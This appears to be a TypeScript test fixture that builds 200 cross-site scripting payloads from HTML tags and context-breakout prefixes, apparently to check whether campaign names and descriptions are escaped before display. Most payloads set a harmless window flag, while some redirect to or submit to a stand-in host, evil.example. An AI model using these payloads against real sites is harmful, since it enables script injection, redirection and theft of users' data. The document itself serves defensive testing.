/** Texts that become markup or script wherever something shows text as HTML. Marked, so that they can be found. */

const TAGS = [
  '<script data-hostile>window.hostile=1</script>',
  '<img src=x data-hostile onerror=window.hostile=1>',
  '<svg data-hostile onload=window.hostile=1>',
  '<iframe data-hostile srcdoc="<script>top.hostile=1</script>">',
  '<a data-hostile href="javascript:window.hostile=1">x</a>',
  '<style data-hostile>*{display:none}</style>',
  '<body data-hostile onpageshow=window.hostile=1>',
  '<input data-hostile autofocus onfocus=window.hostile=1>',
  '<details data-hostile open ontoggle=window.hostile=1>',
  '<video data-hostile><source onerror=window.hostile=1>',
  '<object data-hostile data="javascript:window.hostile=1">',
  '<form data-hostile action=//evil.example><input type=submit>',
  '<meta data-hostile http-equiv=refresh content="0;url=//evil.example">',
  '<base data-hostile href=//evil.example/>',
  '<math data-hostile><mtext><img src=x onerror=window.hostile=1>',
  '<template data-hostile><img src=x onerror=window.hostile=1>',
  '<marquee data-hostile onstart=window.hostile=1>',
  '<audio data-hostile src=x onerror=window.hostile=1>',
  '<button data-hostile formaction=javascript:window.hostile=1>',
  '<link data-hostile rel=stylesheet href=//evil.example/x.css>',
];

/** Prefixes that break out of the place where a text stands. */
const BREAKOUTS: ((tag: string) => string)[] = [
  (tag) => tag,
  (tag) => `">${tag}`,
  (tag) => `'>${tag}`,
  (tag) => `</title>${tag}`,
  (tag) => `--></b>${tag}`,
  (tag) => `{{7*7}}${tag}`,
  (tag) => `\${7*7}${tag}`,
  (tag) => `</script>${tag}`,
  (tag) => `&lt;${tag}`,
  (tag) => `İı"'${tag}`,
];

/** 200 texts, none longer than a campaign's name may be. */
export const HOSTILE_TEXTS: readonly string[] = TAGS.flatMap((tag) =>
  BREAKOUTS.map((breakOut) => breakOut(tag).slice(0, 100)),
);

/** Descriptions filled up to `maxLength` with as many of the texts as fit. */
export function hostileDescriptions(maxLength: number): string[] {
  const texts: string[] = [];
  let text = '';
  for (const next of HOSTILE_TEXTS) {
    if (text.length + next.length + 1 > maxLength) {
      texts.push(text);
      text = '';
    }
    text += `${next} `;
  }
  return [...texts, text.trim()];
}
